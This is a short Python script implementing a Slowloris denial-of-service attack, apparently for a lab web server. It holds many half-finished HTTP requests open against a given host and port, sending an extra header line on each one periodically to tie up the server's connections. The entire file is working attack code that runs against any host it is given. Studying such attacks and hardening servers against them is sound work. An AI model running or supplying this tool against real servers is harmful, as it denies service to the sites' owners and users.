"""A plain Slowloris: opens connections to the lab's web server and sends one more header line on each now and then."""

import argparse
import contextlib
import random
import socket
import time


def main() -> None:
    """Hold `--sockets` half-asked requests open for `--seconds`, replacing those that the server closes."""
    parser = argparse.ArgumentParser()
    parser.add_argument("host")
    parser.add_argument("port", type=int)
    parser.add_argument("--sockets", type=int, default=100)
    parser.add_argument("--pause", type=float, default=2.0)
    parser.add_argument("--seconds", type=float, default=15.0)
    options = parser.parse_args()
    until, held = time.monotonic() + options.seconds, []
    while time.monotonic() < until:
        with contextlib.suppress(OSError):
            while len(held) < options.sockets:
                made = socket.create_connection((options.host, options.port), timeout=3)
                asked = f"GET /?{random.randrange(2000)} HTTP/1.1"
                made.send(f"{asked}\r\nHost: {options.host}\r\nUser-Agent: Mozilla/5.0\r\n".encode())
                held.append(made)
        time.sleep(options.pause)
        for made in list(held):
            try:
                made.send(f"X-a: {random.randrange(5000)}\r\n".encode())
            except OSError:
                held.remove(made)


if __name__ == "__main__":
    main()
